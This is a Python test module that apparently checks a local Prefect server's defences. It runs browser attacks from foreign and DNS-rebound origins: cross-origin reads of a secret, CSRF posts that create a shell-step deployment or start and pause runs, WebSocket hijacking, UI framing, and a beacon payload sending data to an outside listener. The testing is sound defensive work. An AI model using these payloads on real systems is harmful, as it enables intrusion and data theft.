"""What pages of strangers try on our server: each attack acts on a page and returns whether it had its way."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, HTTPServer, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from playwright.sync_api import BrowserContext, Page, Route

from flows.server.process import ServerPlace
from tests.support.ajar import CORS, ajar_server
from tests.support.prefect import ask

SECRET = "Mette Brøndgaard er overskredet"
REBOUND = "evil.example"
PREFECT = "Prefect itself"
"""A guard that we cannot take out: Prefect takes no JSON under a wrong type."""

HOSTS, ORIGIN, FRAMES, CONTENT = "KnownHosts", "SameOrigin", "NeverFramed", "OnlyOwnContent"


@dataclass(frozen=True)
class Ours:
    """Our server with a page about a talent and a form, and the guards that it lacks."""

    place: ServerPlace
    flow: str
    form: str
    lacks: frozenset[str]

    def deployments(self) -> int:
        """How many deployments there are."""
        return int(ask(self.place, "/deployments/count", {}))

    def runs(self) -> int:
        """How often the form was started."""
        return int(ask(self.place, "/flow_runs/count", {"flow_runs": {"deployment_id": {"any_": [self.form]}}}))

    def is_paused(self) -> bool:
        """Whether the form was paused; it is not any more afterwards."""
        paused = bool(ask(self.place, f"/deployments/{self.form}")["paused"])
        ask(self.place, f"/deployments/{self.form}/resume_deployment", {})
        return paused


@contextmanager
def ours_without(lacks: frozenset[str], home: Path) -> Iterator[Ours]:
    with ajar_server(home, lacks) as place:
        ask(place, "/artifacts/", {"key": "side-hold-3", "type": "markdown", "data": SECRET})
        flow = ask(place, "/flows/", {"name": "record"})["id"]
        form = ask(place, "/deployments/", {"name": "form", "flow_id": flow})["id"]
        yield Ours(place, flow, form, lacks)


class _Blank(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>A stranger's page</title>")

    def log_message(self, *_: object) -> None: ...


@contextmanager
def stranger() -> Iterator[str]:
    """A page of another origin: the same machine, another port."""
    with HTTPServer(("127.0.0.1", 0), _Blank) as server:
        threading.Thread(target=server.serve_forever, args=[0.02], daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


def foreign(context: BrowserContext, ours: Ours) -> Iterator[Page]:
    """A page of another origin."""
    with stranger() as address:
        page = context.new_page()
        page.goto(address)
        yield page


def own(context: BrowserContext, ours: Ours) -> Iterator[Page]:
    """A page of our own, into which something foreign has slipped."""
    for path in ("/artifacts", "/v2/artifacts"):
        page = context.new_page()
        page.goto(f"{ours.place.ui}{path}")
        yield page


def rebound(context: BrowserContext, ours: Ours) -> Iterator[Page]:
    """A page that a stranger's host served, before that host's name was made to lead to our server."""
    page = context.new_page()
    address = f"http://{REBOUND}:{ours.place.port}/page"

    def serve(route: Route) -> None:
        route.fulfill(status=200, content_type="text/html", body="<!doctype html><title>A stranger's page</title>")

    page.route(address, serve)
    page.goto(address)
    yield page


# -- attacks: each does something on a page and returns whether it had its way -------------------------------------

FETCH = """async ([address, options, untyped]) => {
    if (untyped) options.body = new Blob([options.body]);
    try { return await (await fetch(address, options)).text(); } catch (error) { return String(error); }
}"""
JSON = {"content-type": "application/json"}


def fetch(page: Page, address: str, *, untyped: bool = False, **options: Any) -> str:
    """Fetch as the page would; return what it can read of the answer."""
    return str(page.evaluate(FETCH, [address, options, untyped]))


def api(page: Page, ours: Ours) -> str:
    """The API as a page would address it: by its own name when that leads to us."""
    return "/api" if REBOUND in page.url else ours.place.api


def reads_a_page(page: Page, ours: Ours) -> bool:
    return SECRET in fetch(page, f"{api(page, ours)}/artifacts/side-hold-3/latest")


def filters_pages(page: Page, ours: Ours) -> bool:
    found = fetch(page, f"{api(page, ours)}/artifacts/filter", method="POST", headers=JSON, body="{}")
    return SECRET in found


def harmful(ours: Ours) -> str:
    """A deployment whose runs begin with a command of the stranger's."""
    step = {"prefect.deployments.steps.run_shell_script": {"script": "true"}}
    return json.dumps({"name": f"harm-{ours.deployments()}", "flow_id": ours.flow, "pull_steps": [step]})


def deploys(page: Page, ours: Ours, **options: Any) -> bool:
    before = ours.deployments()
    fetch(page, f"{api(page, ours)}/deployments/", method="POST", body=harmful(ours), **options)
    return ours.deployments() > before


def deploys_code(page: Page, ours: Ours) -> bool:
    return deploys(page, ours, headers=JSON)


def deploys_code_without_a_type(page: Page, ours: Ours) -> bool:
    return deploys(page, ours, mode="no-cors", untyped=True)


def deploys_code_as_text(page: Page, ours: Ours) -> bool:
    return deploys(page, ours, mode="no-cors", headers={"content-type": "text/plain"})


def starts(page: Page, ours: Ours, **options: Any) -> bool:
    before = ours.runs()
    body = '{"state": {"type": "SCHEDULED"}}'
    address = f"{api(page, ours)}/deployments/{ours.form}/create_flow_run"
    fetch(page, address, method="POST", body=body, **options)
    return ours.runs() > before


def starts_a_form(page: Page, ours: Ours) -> bool:
    return starts(page, ours, headers=JSON)


def starts_a_form_without_a_type(page: Page, ours: Ours) -> bool:
    return starts(page, ours, mode="no-cors", untyped=True)


def starts_a_form_as_text(page: Page, ours: Ours) -> bool:
    return starts(page, ours, mode="no-cors", headers={"content-type": "text/plain"})


def posts(page: Page, address: str, field: str = "", value: str = "") -> None:
    """Send an HTML form, as plain text: its body is what a stranger wants it to be."""
    with page.expect_navigation():
        page.evaluate(
            """([address, field, value]) => {
                const form = document.createElement("form");
                Object.assign(form, {method: "post", action: address, enctype: "text/plain"});
                const input = Object.assign(document.createElement("input"), {name: field, value: value});
                if (field) form.append(input);
                document.body.append(form);
                form.submit();
            }""",
            [address, field, value],
        )


def starts_a_form_by_a_form(page: Page, ours: Ours) -> bool:
    before = ours.runs()
    address = f"{ours.place.api}/deployments/{ours.form}/create_flow_run"
    posts(page, address, '{"state": {"type": "SCHEDULED"}, "name": "', '"}')
    return ours.runs() > before


def pauses_a_form_by_a_form(page: Page, ours: Ours) -> bool:
    posts(page, f"{ours.place.api}/deployments/{ours.form}/pause_deployment")
    return ours.is_paused()


def pauses_a_form_as_text(page: Page, ours: Ours) -> bool:
    address = f"{api(page, ours)}/deployments/{ours.form}/pause_deployment"
    fetch(page, address, method="POST", mode="no-cors", body="", headers={"content-type": "text/plain"})
    return ours.is_paused()


def opens(page: Page, ours: Ours, path: str) -> bool:
    address = f"ws://{REBOUND if REBOUND in page.url else '127.0.0.1'}:{ours.place.port}/api/{path}"
    return bool(
        page.evaluate(
            """address => new Promise(done => {
                const socket = new WebSocket(address);
                socket.onopen = () => { socket.close(); done(true); };
                socket.onerror = () => done(false);
            })""",
            address,
        )
    )


def writes_events(page: Page, ours: Ours) -> bool:
    return opens(page, ours, "events/in")


def listens_to_events(page: Page, ours: Ours) -> bool:
    return opens(page, ours, "events/out")


def listens_to_logs(page: Page, ours: Ours) -> bool:
    return opens(page, ours, "logs/out")


def frames_the_ui(page: Page, ours: Ours) -> bool:
    """Show the UI within a page of its own, where the user's click on something else is a click on a form."""
    page.evaluate(
        """address => new Promise(done => {
            const frame = Object.assign(document.createElement("iframe"), {src: address, onload: done});
            document.body.append(frame);
        })""",
        ours.place.ui,
    )
    (_, frame) = page.frames
    return frame.locator("#app, #root").count() == 1


CALLS = """async address => {
    const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
    add("img", {src: address + "img"});
    add("script", {src: address + "script"});
    add("link", {rel: "stylesheet", href: address + "style"});
    add("iframe", {src: address + "iframe"});
    add("object", {data: address + "object"});
    add("video", {src: address + "video"});
    document.body.style.backgroundImage = `url(${address}background)`;
    navigator.sendBeacon(address + "beacon", "names");
    try { new WebSocket(address.replace("http", "ws") + "socket"); } catch {}
    try { new Worker(address + "worker"); } catch {}
    await fetch(address + "fetch", {mode: "no-cors", method: "POST", body: "names"}).catch(() => 0);
    await new Promise(done => setTimeout(done, 1000));
}"""


def calls_home(page: Page, ours: Ours) -> bool:
    """Have the page ask a stranger, in every way there is; return whether the stranger was asked."""
    asked: list[str] = []

    class Ear(_Blank):
        def do_GET(self) -> None:
            asked.append(self.path)
            super().do_GET()

        def do_POST(self) -> None:
            self.do_GET()

    with ThreadingHTTPServer(("127.0.0.1", 0), Ear) as server:
        threading.Thread(target=server.serve_forever, args=[0.02], daemon=True).start()
        page.evaluate(CALLS, f"http://127.0.0.1:{server.server_port}/")
        server.shutdown()
    return bool(asked)


Attack = Callable[[Page, Ours], bool]
Visit = Callable[[BrowserContext, Ours], Iterator[Page]]

ATTACKS: list[tuple[Visit, Attack, set[str]]] = [
    (foreign, reads_a_page, {CORS}),
    (foreign, filters_pages, {CORS, ORIGIN}),
    (foreign, deploys_code, {CORS, ORIGIN}),
    (foreign, deploys_code_without_a_type, {ORIGIN}),
    (foreign, deploys_code_as_text, {PREFECT, ORIGIN}),
    (foreign, starts_a_form, {CORS, ORIGIN}),
    (foreign, starts_a_form_without_a_type, {ORIGIN}),
    (foreign, starts_a_form_as_text, {PREFECT, ORIGIN}),
    (foreign, starts_a_form_by_a_form, {PREFECT, ORIGIN}),
    (foreign, pauses_a_form_by_a_form, {ORIGIN}),
    (foreign, pauses_a_form_as_text, {ORIGIN}),
    (foreign, writes_events, {ORIGIN}),
    (foreign, listens_to_events, {ORIGIN}),
    (foreign, listens_to_logs, {ORIGIN}),
    (foreign, frames_the_ui, {FRAMES}),
    (own, calls_home, {CONTENT}),
    (rebound, reads_a_page, {HOSTS}),
    (rebound, filters_pages, {HOSTS, ORIGIN}),
    (rebound, deploys_code, {HOSTS, ORIGIN}),
    (rebound, deploys_code_without_a_type, {HOSTS, ORIGIN}),
    (rebound, starts_a_form, {HOSTS, ORIGIN}),
    (rebound, pauses_a_form_as_text, {HOSTS, ORIGIN}),
    (rebound, listens_to_events, {HOSTS, ORIGIN}),
]
